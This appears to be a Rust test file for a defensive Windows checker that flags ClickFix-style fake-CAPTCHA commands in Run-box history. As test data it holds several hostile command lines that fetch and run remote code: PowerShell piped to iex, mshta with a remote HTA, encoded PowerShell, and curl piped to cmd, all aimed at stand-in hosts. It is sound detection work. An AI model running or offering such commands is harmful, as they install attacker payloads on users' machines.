//! The Run-box trace over recorded `RunMRU` lines. This file and `run_box.rs` name script
//! hosts to recognise them in what the person typed; TựKiểm never starts one
//! (`tests/no_script_host.rs` allows exactly these two files besides the refusal list).

use super::*;
use crate::checks::scenario::ScenarioEnv;
use crate::checks::scenario_facts::RecordedFacts;
use crate::checks::{Check, Finding, OsKind, Status};

/// 2026-12-07 12:00 UTC.
const NOW: i64 = 1_796_644_800;

fn windows(facts: &str) -> ScenarioEnv {
    ScenarioEnv::new(OsKind::Windows, "/nonexistent", NOW)
        .with_facts(RecordedFacts::parse(facts).unwrap())
}

fn run(check: &dyn Check, env: &ScenarioEnv) -> Finding {
    let mut out = check.run(env);
    assert_eq!(out.findings.len(), 1);
    out.findings.remove(0)
}

const CLICKFIX: &str = "powershell -w hidden -c \"iwr https://cdn.verify-human.example/c.txt?token=SECRET123 | iex\"          # I am not a robot - reCAPTCHA ID 2817\\1";

#[test]
fn a_fake_captcha_powershell_line_is_a_stealer_trace_naming_program_and_domain_only() {
    let t = classify(CLICKFIX);
    assert_eq!(t.program, "powershell");
    assert!(t.domains.contains("cdn.verify-human.example"));
    assert!(
        t.signs.contains("pipe-to-shell") && t.signs.contains("padded"),
        "{:?}",
        t.signs
    );
    let facts = format!(
        "[registry.'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU']\n\
         a = {CLICKFIX:?}\nb = \"notepad\\\\1\"\nMRUList = \"ab\"\n"
    );
    let f = run(&RunBoxCheck, &windows(&facts));
    assert_eq!(f.status, Status::Critical);
    let shown = serde_json::to_string(&f).unwrap();
    assert!(
        !shown.contains("SECRET123") && !shown.contains("c.txt") && !shown.contains("robot"),
        "{shown}"
    );
    assert!(shown.contains("cdn.verify-human.example"));
    assert!(
        matches!(&f.actions[0], crate::checks::Action::OpenIncident { incident, .. } if incident == "malware")
    );
}

#[test]
fn ordinary_run_box_lines_are_not_traces() {
    for line in [
        "notepad\\1",
        "cmd\\1",
        "powershell\\1",
        "calc\\1",
        "\\\\fileserver\\share\\1",
        "control printers\\1",
        "\"C:\\Program Files\\App\\app.exe\"\\1",
        "https://dichvucong.gov.vn\\1",
    ] {
        assert!(
            !classify(line).is_suspicious(),
            "{line}: {:?}",
            classify(line).signs
        );
    }
    for line in [
        "mshta https://x.example/a.hta\\1",
        "cmd /c start /min powershell -enc SQBFAFgA\\1",
        "curl -s https://x.example/p | cmd\\1",
        "conhost --headless powershell -e SQBFAFgA\\1",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ep bypass -file x.ps1\\1",
    ] {
        assert!(classify(line).is_suspicious(), "{line}");
    }
}

#[test]
fn a_huge_run_box_list_or_entry_is_read_within_bounds_and_stays_quiet_on_text() {
    let mut facts = String::from(
        "[registry.'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU']\n",
    );
    for i in 0..10_000 {
        facts.push_str(&format!("v{i} = \"notepad\\\\1\"\n"));
    }
    let f = run(&RunBoxCheck, &windows(&facts));
    assert_eq!(f.status, Status::Ok);
    assert_eq!(f.evidence["entries"], 64);
    let huge = format!("powershell -c iex{}\\1", " ".repeat(1_000_000));
    let t = classify(&huge);
    assert!(t.signs.contains("very-long"));
    let bidi = "notepad \u{202E}exe.tpircs\\1";
    assert!(!classify(bidi).is_suspicious());
    let hidden = "powershell\u{200B} -c \"irm https://a.example | iex\"\\1";
    assert!(classify(hidden).signs.contains("hidden-characters"));
}
